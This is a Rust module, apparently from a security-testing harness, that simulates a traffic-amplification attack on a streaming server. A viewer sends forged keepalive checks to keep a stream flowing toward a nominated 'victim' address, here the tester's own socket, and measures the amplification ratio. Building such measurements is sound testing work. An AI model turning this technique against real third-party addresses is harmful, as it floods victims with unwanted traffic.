//! A connected viewer nominates an address that never answers, as if it had forged the source of a
//! check.
//!
//! The victim is played by a socket of the attacker that counts what comes and sends nothing but
//! the checks.

use std::time::Duration;

use tokio::time::{MissedTickBehavior, interval};

use super::context::Context;
use super::error::AttackError;
use super::watcher::Watcher;

/// From one forged check to the next: sessions end after 15 s without one.
const INTERVAL: Duration = Duration::from_secs(13);

/// The number of the victim's address, another one than the viewer's.
const VICTIM: usize = 1;

pub(super) async fn run(context: &Context) -> Result<(), AttackError> {
    let watcher = Watcher::watch(context, 0, &context.target().stream).await?;
    let victim = context.datagrams(watcher.session.server, VICTIM).await?;
    let mut checks = interval(INTERVAL);
    checks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let mut buffer = vec![0; 1 << 16];
    let (mut bytes_in, mut bytes_out) = (0.0, 0.0);
    loop {
        tokio::select! {
            _ = checks.tick() => {
                let check = watcher.session.check(true);
                context.spend(check.len()).await;
                victim.send(&check).await?;
                bytes_in += check.len() as f64;
            }
            received = victim.recv(&mut buffer) => {
                let len = received?;
                context.received(len);
                bytes_out += len as f64;
            }
        }
        context.note("victim: bytes in its name", bytes_in);
        context.note("victim: bytes to it", bytes_out);
        context.note("amplification", bytes_out / bytes_in);
    }
}
